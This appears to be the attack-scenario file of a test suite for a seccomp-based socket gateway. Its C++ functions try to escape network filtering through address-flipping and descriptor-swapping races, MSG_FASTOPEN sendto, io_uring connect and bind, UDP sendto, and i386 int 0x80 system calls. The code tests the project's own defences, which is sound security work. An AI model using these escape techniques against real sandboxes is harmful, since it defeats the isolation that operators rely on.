// Scenarios that try to reach what the rules forbid: a denied address, or the host's loopback
// through a socket that the gateway switched into the host's network namespace.
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/un.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <cstring>
#include <map>
#include <mutex>
#include <thread>

#include "common.hpp"
#include "uring.hpp"

namespace attacker {
namespace {

// Makes a TCP socket that the gateway switched to the host and whose connect then failed, so it
// is unconnected again: a non-blocking connect to a refusing port that a bypass rule covers.
// Reports the steps into `report`; returns the socket or -1.
int refused_host_socket(const Target& refused, json& report) {
  int fd = socket(refused.family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  report["refused_connect"] = errno_name(connect_errno(fd, refused));
  report["refused_completion"] = errno_name(wait_connected(fd, 3000));
  report["bypassed"] = bypassed(fd);
  return fd;
}

// The 8 leading bytes of a sockaddr_in (family, port, address) as one word, so one aligned
// store rewrites the whole destination at once.
std::uint64_t leading_word(const Target& target) {
  std::uint64_t word = 0;
  std::memcpy(&word, &target.storage, sizeof word);
  return word;
}

}  // namespace

// race-address OK_HOST OK_PORT BAD_HOST BAD_PORT SECONDS: two threads connect while a third
// flips the shared sockaddr between an allowed and a forbidden IPv4 destination.
json scenario_race_address(const std::vector<std::string>& args) {
  Target good = parse_target(args.at(0), args.at(1));
  Target bad = parse_target(args.at(2), args.at(3));
  double seconds = std::stod(args.at(4));
  std::string bad_text = args.at(2) + ":" + args.at(3);
  alignas(16) static sockaddr_in shared;
  std::memcpy(&shared, &good.storage, sizeof shared);
  auto* word = reinterpret_cast<volatile std::uint64_t*>(&shared);
  std::uint64_t words[2] = {leading_word(good), leading_word(bad)};

  std::atomic<bool> stop{false};
  std::thread flipper([&] {
    for (std::uint64_t i = 0; !stop.load(std::memory_order_relaxed); ++i) {
      *word = words[i & 1];
    }
  });
  std::atomic<long> attempts{0}, reached_good{0}, reached_bad{0};
  std::mutex mutex;
  std::map<std::string, long> errors;
  auto connector = [&] {
    double deadline = now_ms() + seconds * 1000;
    while (now_ms() < deadline) {
      int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
      int error = connect(fd, reinterpret_cast<sockaddr*>(&shared), sizeof shared) == 0 ? 0
                                                                                      : errno;
      ++attempts;
      if (error == 0) {
        (peer_of(fd) == bad_text ? reached_bad : reached_good)++;
      } else {
        std::lock_guard lock(mutex);
        ++errors[errno_name(error)];
      }
      close(fd);
    }
  };
  std::thread first(connector), second(connector);
  first.join();
  second.join();
  stop = true;
  flipper.join();
  return {{"attempts", attempts.load()}, {"reached_good", reached_good.load()},
          {"reached_bad", reached_bad.load()}, {"errors", errors}};
}

// fd-swap-race LOOPBACK_PORT REFUSED_HOST REFUSED_PORT SECONDS: one thread connects fd N with
// a fixed 110-byte address buffer while another swaps fd N between an AF_UNIX socket (which the
// gateway lets the kernel continue) and a host-namespace TCP socket, and the buffer between a
// sockaddr_un and 127.0.0.1:LOOPBACK_PORT. Success of the host socket's connect is an escape.
json scenario_fd_swap_race(const std::vector<std::string>& args) {
  Target loopback = loopback4(std::stoi(args.at(0)));
  Target refused = parse_target(args.at(1), args.at(2));
  double seconds = std::stod(args.at(3));
  json report;
  int host = refused_host_socket(refused, report);
  int unix_socket = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  constexpr int kNumber = 200;

  alignas(16) static char buffer[sizeof(sockaddr_un)];
  sockaddr_un unix_address{};
  unix_address.sun_family = AF_UNIX;
  std::strcpy(unix_address.sun_path, "/nonexistent/sockgate-attack");
  std::memcpy(buffer, &unix_address, sizeof buffer);
  auto* word = reinterpret_cast<volatile std::uint64_t*>(buffer);
  std::uint64_t unix_word = 0;
  std::memcpy(&unix_word, buffer, sizeof unix_word);
  std::uint64_t inet_word = leading_word(loopback);
  dup2(unix_socket, kNumber);

  std::atomic<bool> stop{false};
  std::thread swapper([&] {
    while (!stop.load(std::memory_order_relaxed)) {
      dup2(host, kNumber);
      *word = inet_word;
      *word = unix_word;
      dup2(unix_socket, kNumber);
    }
  });
  std::string escaped_peer;
  long attempts = 0;
  std::map<std::string, long> errors;
  double deadline = now_ms() + seconds * 1000;
  while (now_ms() < deadline && escaped_peer.empty()) {
    int error = connect(kNumber, reinterpret_cast<sockaddr*>(buffer), sizeof buffer) == 0 ? 0
                                                                                        : errno;
    ++attempts;
    ++errors[errno_name(error)];
    escaped_peer = peer_of(host);
  }
  stop = true;
  swapper.join();
  report["attempts"] = attempts;
  report["results"] = errors;
  report["host_socket_peer"] = peer_of(host);
  return report;
}

// fastopen-escape LOOPBACK_PORT REFUSED_HOST REFUSED_PORT: gets a host socket from a refused
// bypassed connect, then connects it with sendto(MSG_FASTOPEN), which the filter does not trap.
json scenario_fastopen_escape(const std::vector<std::string>& args) {
  Target loopback = loopback4(std::stoi(args.at(0)));
  Target refused = parse_target(args.at(1), args.at(2));
  json report;
  int fd = refused_host_socket(refused, report);
  json attempts = json::array();
  const char message[] = "fastopen escape\n";
  for (int attempt = 0; attempt < 3 && peer_of(fd).empty(); ++attempt) {
    ssize_t sent = sendto(fd, message, sizeof message - 1, MSG_FASTOPEN | MSG_NOSIGNAL,
                          loopback.get(), loopback.length);
    int error = sent < 0 ? errno : 0;
    if (error == 0 || error == EINPROGRESS) {
      error = wait_connected(fd, 2000);
    }
    attempts.push_back(errno_name(error));
  }
  report["sendto"] = attempts;
  report["peer"] = peer_of(fd);
  return report;
}

// publish-fastopen tcp|udp CONTAINER_PORT LOOPBACK_PORT: binds the container port (which a
// publish rule switches to a host socket), then sends to the host's 127.0.0.1:LOOPBACK_PORT
// from it without connect(): sendto(MSG_FASTOPEN) for TCP, plain sendto for UDP.
json scenario_publish_fastopen(const std::vector<std::string>& args) {
  bool tcp = args.at(0) == "tcp";
  Target local = parse_target("0.0.0.0", args.at(1));
  Target loopback = loopback4(std::stoi(args.at(2)));
  int fd = socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
  json report;
  report["bind"] = errno_name(bind(fd, local.get(), local.length) == 0 ? 0 : errno);
  report["bypassed"] = bypassed(fd);
  const char message[] = "publish escape\n";
  int flags = MSG_NOSIGNAL | (tcp ? MSG_FASTOPEN : 0);
  ssize_t sent = sendto(fd, message, sizeof message - 1, flags, loopback.get(), loopback.length);
  int error = sent < 0 ? errno : 0;
  if (tcp && (error == 0 || error == EINPROGRESS)) {
    error = wait_connected(fd, 2000);
  }
  report["sendto"] = errno_name(error);
  report["peer"] = peer_of(fd);
  return report;
}

// uring-connect HOST PORT: connects a fresh TCP socket with IORING_OP_CONNECT, which no seccomp
// filter traps, then binds another with IORING_OP_BIND to port PORT+1 of 0.0.0.0.
json scenario_uring_connect(const std::vector<std::string>& args) {
  Target target = parse_target(args.at(0), args.at(1));
  int fd = socket(target.family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  json report;
  report["connect"] = errno_name(-uring_connect(fd, target.get(), target.length));
  report["peer"] = peer_of(fd);
  report["bypassed"] = bypassed(fd);
  int bound = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  Target local = parse_target("0.0.0.0", std::to_string(std::stoi(args.at(1)) + 1));
  report["bind"] = errno_name(-uring_bind(bound, local.get(), local.length));
  return report;
}

// uring-escape LOOPBACK_PORT REFUSED_HOST REFUSED_PORT: like fastopen-escape, with
// IORING_OP_CONNECT on the host socket.
json scenario_uring_escape(const std::vector<std::string>& args) {
  Target loopback = loopback4(std::stoi(args.at(0)));
  Target refused = parse_target(args.at(1), args.at(2));
  json report;
  int fd = refused_host_socket(refused, report);
  json attempts = json::array();
  for (int attempt = 0; attempt < 3 && peer_of(fd).empty(); ++attempt) {
    int error = -uring_connect(fd, loopback.get(), loopback.length);
    if (error == EINPROGRESS) {
      error = wait_connected(fd, 2000);
    }
    attempts.push_back(errno_name(error));
  }
  report["connect"] = attempts;
  report["peer"] = peer_of(fd);
  return report;
}

// udp-sendto DENIED_HOST DENIED_PORT BYPASS_HOST BYPASS_PORT LOOPBACK_PORT: sendto() to a
// destination that a rule denies to connect(); then sendto() to the host's loopback from a UDP
// socket that a bypass rule switched to the host.
json scenario_udp_sendto(const std::vector<std::string>& args) {
  Target denied = parse_target(args.at(0), args.at(1));
  Target allowed = parse_target(args.at(2), args.at(3));
  Target loopback = loopback4(std::stoi(args.at(4)));
  const char message[] = "udp escape\n";
  json report;
  int unconnected = socket(denied.family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  report["denied_connect"] = errno_name(connect_errno(unconnected, denied));
  ssize_t sent = sendto(unconnected, message, sizeof message - 1, 0, denied.get(),
                        denied.length);
  report["denied_sendto"] = errno_name(sent < 0 ? errno : 0);

  int switched = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  report["bypass_connect"] = errno_name(connect_errno(switched, allowed));
  report["bypassed"] = bypassed(switched);
  sent = sendto(switched, message, sizeof message - 1, 0, loopback.get(), loopback.length);
  report["loopback_sendto"] = errno_name(sent < 0 ? errno : 0);
  return report;
}

namespace {

// Memory below 4 GiB, where i386 system calls can address it.
char* low_memory() {
  void* page = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                    -1, 0);
  return page == MAP_FAILED ? nullptr : static_cast<char*>(page);
}

// An i386 system call through int 0x80 from this 64-bit process: seccomp reports
// AUDIT_ARCH_I386 and the i386 numbers.
long int80(long number, long first, long second, long third) {
  long result = 0;
  asm volatile("int $0x80"
               : "=a"(result)
               : "a"(number), "b"(first), "c"(second), "d"(third)
               : "memory", "r8", "r9", "r10", "r11");
  return result;
}

constexpr long kI386Socketcall = 102;
constexpr long kI386Connect = 362;
constexpr long kSysConnect = 3;

}  // namespace

// int80-connect HOST PORT: connects IPv4 TCP sockets with the i386 socketcall(SYS_CONNECT) and
// connect system calls.
json scenario_int80_connect(const std::vector<std::string>& args) {
  Target target = parse_target(args.at(0), args.at(1));
  char* low = low_memory();
  if (low == nullptr) {
    return {{"error", "no memory below 4 GiB"}};
  }
  std::memcpy(low, &target.storage, target.length);
  auto address = reinterpret_cast<long>(low);
  json report;

  int via_socketcall = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  auto* words = reinterpret_cast<std::uint32_t*>(low + 256);
  words[0] = static_cast<std::uint32_t>(via_socketcall);
  words[1] = static_cast<std::uint32_t>(address);
  words[2] = target.length;
  long result = int80(kI386Socketcall, kSysConnect, reinterpret_cast<long>(words), 0);
  report["socketcall"] = errno_name(result < 0 ? static_cast<int>(-result) : 0);
  report["socketcall_bypassed"] = bypassed(via_socketcall);
  report["socketcall_peer"] = peer_of(via_socketcall);

  int direct = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  result = int80(kI386Connect, direct, address, target.length);
  report["connect"] = errno_name(result < 0 ? static_cast<int>(-result) : 0);
  report["connect_bypassed"] = bypassed(direct);
  report["connect_peer"] = peer_of(direct);
  return report;
}

}  // namespace attacker
